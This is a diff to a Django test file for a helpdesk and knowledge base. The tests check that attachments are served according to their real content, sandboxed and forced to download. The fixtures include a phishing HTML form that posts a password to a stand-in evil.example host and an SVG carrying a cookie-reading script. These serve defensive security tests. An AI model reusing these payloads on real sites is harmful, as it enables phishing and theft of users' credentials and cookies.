@@ -136,3 +136,147 @@ def test_the_article_api_gives_readers_the_sanitised_text_without_editors_notes(
         f"/api/v1/kb/articles/{article.pk}/", {"title": "Wysyłka"}, content_type="application/json"
     ).json()
     assert "NOTATKA REDAKCJI" in changed["body"]
+
+
+# --- 14.5: the knowledge base's files are served by their content, like ticket attachments ------------------
+
+PNG = (
+    b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89"
+    b"\x00\x00\x00\rIDATx\x9cc\xf8\xcf\xc0\xf0\x1f\x00\x05\x00\x01\xff\x89\x99=\x1d\x00\x00\x00\x00IEND\xaeB`\x82"
+)
+PHISHING = b'<html><body><form action="https://evil.example/steal" method="post">Haslo: <input name="p"></form>'
+SVG = b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(document.cookie)</script></svg>"
+SANDBOX = "default-src 'none'; img-src 'self'; style-src 'unsafe-inline'; frame-ancestors 'none'; sandbox"
+
+
+def _stored_row(article, filename, content, content_type):
+    """A row as earlier versions stored it: the uploader's declared type, the content unchecked."""
+    from django.core.files.base import ContentFile
+
+    from knowledge_base.models import ArticleAttachment
+
+    row = ArticleAttachment(article=article, filename=filename, content_type=content_type, size=len(content))
+    row.content.save(filename, ContentFile(content), save=False)
+    row.save()
+    return row
+
+
+def _get_file(client, row):
+    from django.urls import reverse
+
+    response = client.get(reverse("kb:attachment", args=[row.pk, row.filename]))
+    assert response.status_code == 200
+    return response, b"".join(response.streaming_content)
+
+
+@pytest.mark.parametrize(
+    ("filename", "content", "declared"),
+    [
+        ("c.png", PHISHING, "image/png, text/html"),  # the reproduced attack
+        ("c.png", PHISHING, "image/png"),
+        ("logo.svg", SVG, "image/svg+xml"),
+        ("strona.html", PHISHING, "text/html"),
+        ("dziwny.bin", PHISHING, "text/html; charset=utf-8"),
+    ],
+)
+def test_an_old_rows_declared_type_is_not_trusted_html_and_svg_are_sandboxed_downloads(
+    client, filename, content, declared
+):
+    article = _published("Instrukcja z plikami", "Zobacz pliki.")
+    row = _stored_row(article, filename, content, declared)
+    response, body = _get_file(client, row)  # anonymous: a public article's file
+    assert body == content
+    assert response["Content-Disposition"].startswith("attachment;"), response["Content-Disposition"]
+    assert response["Content-Type"] == "application/octet-stream"
+    assert response["X-Content-Type-Options"] == "nosniff"
+    assert response["Content-Security-Policy"] == SANDBOX
+
+
+def test_a_real_image_is_shown_inline_with_the_type_its_content_proves(client, redaktor):
+    article = _published("Zrzuty ekranu", "Zobacz zrzut.")
+    row = actions.add_attachment(
+        actor=redaktor, article=article, filename="c.png", content=PNG, content_type="image/png, text/html"
+    )
+    assert row.content_type == "image/png"  # what is stored is decided by the content too
+    response, body = _get_file(client, row)
+    assert body == PNG and response["Content-Type"] == "image/png"
+    assert response["Content-Disposition"].startswith("inline;")
+    assert response["X-Content-Type-Options"] == "nosniff" and response["Content-Security-Policy"] == SANDBOX
+
+
+@pytest.mark.parametrize(
+    ("filename", "content", "declared", "message"),
+    [
+        ("c.png", PHISHING, "image/png, text/html", "nie jest obrazem"),
+        ("zdjecie.jpg", b"GIF89a but named jpeg" + PHISHING, "image/jpeg", None),  # a GIF is an image: accepted
+        ("logo.svg", SVG, "image/svg+xml", "nieobsługiwany format"),
+        ("strona.html", PHISHING, "text/html", "nieobsługiwany format"),
+        ("pusty.png", b"", "image/png", "nie jest obrazem"),
+    ],
+)
+def test_an_editors_upload_that_is_not_what_it_claims_is_refused(redaktor, filename, content, declared, message):
+    from django.core.exceptions import ValidationError
+
+    from knowledge_base.models import ArticleAttachment
+
+    article = actions.create_article(actor=redaktor, title="Pliki", body="Treść")
+    if message is None:
+        row = actions.add_attachment(
+            actor=redaktor, article=article, filename=filename, content=content, content_type=declared
+        )
+        assert row.content_type == "image/gif"
+        return
+    with pytest.raises(ValidationError, match=message):
+        actions.add_attachment(
+            actor=redaktor, article=article, filename=filename, content=content, content_type=declared
+        )
+    assert not ArticleAttachment.objects.exists()
+
+
+def test_the_requesters_private_link_serves_files_as_sandboxed_downloads_whatever_their_type(client):
+    import re
+
+    from django.core import mail
+    from django.core.files.uploadedfile import SimpleUploadedFile
+
+    from helpdesk import outbox
+
+    form = {"name": "Anna Kowalska", "email": "anna@example.pl", "regon": "", "subject": "Plik", "body": "Plik."}
+    upload = SimpleUploadedFile("c.png", PHISHING, content_type="image/png, text/html")
+    assert client.post("/kontakt/", {**form, "website": "", "attempt": "", "attachments": [upload]}).status_code == 302
+    outbox.drain()
+    link = re.search(r"http://\S+/zgloszenie/\S+/", mail.outbox[-1].body).group(0)
+    page = client.get(link).content.decode()
+    href = re.search(r'href="(/zgloszenie/[^"]+/pliki/\d+[^"]*)"', page).group(1)
+    response = client.get(href)
+    assert response.status_code == 200 and b"".join(response.streaming_content) == PHISHING
+    assert response["Content-Disposition"].startswith("attachment;")
+    assert response["Content-Type"] == "application/octet-stream"
+    assert response["X-Content-Type-Options"] == "nosniff" and "sandbox" in response["Content-Security-Policy"]
+
+
+@pytest.mark.parametrize(
+    ("declared", "content", "disposition", "served"),
+    [
+        ("image/png", PHISHING, "attachment", "application/octet-stream"),  # claims an image: the content says not
+        ("image/png, text/html", PHISHING, "attachment", "application/octet-stream"),
+        ("application/octet-stream", PNG, "inline", "image/png"),  # the content proves a PNG
+        ("text/plain", b"%PDF-1.4 minimal", "inline", "application/pdf"),
+        ("application/pdf", PHISHING, "attachment", "application/octet-stream"),
+    ],
+)
+def test_ticket_attachments_are_served_by_the_same_rule(
+    client, alice, queue_14, open_email_ticket, declared, content, disposition, served
+):
+    from django.urls import reverse
+
+    from tickets import actions as ticket_actions
+    from tickets.models import Attachment
+
+    open_email_ticket(queue_14, attachments=[ticket_actions.NewAttachment("plik.dat", content, declared)])
+    client.force_login(alice)
+    row = Attachment.objects.get()
+    response = client.get(reverse("attachment", args=[row.pk, row.filename]))
+    assert response.status_code == 200 and b"".join(response.streaming_content) == content
+    assert response["Content-Disposition"].startswith(f"{disposition};")
+    assert response["Content-Type"] == served and response["X-Content-Type-Options"] == "nosniff"
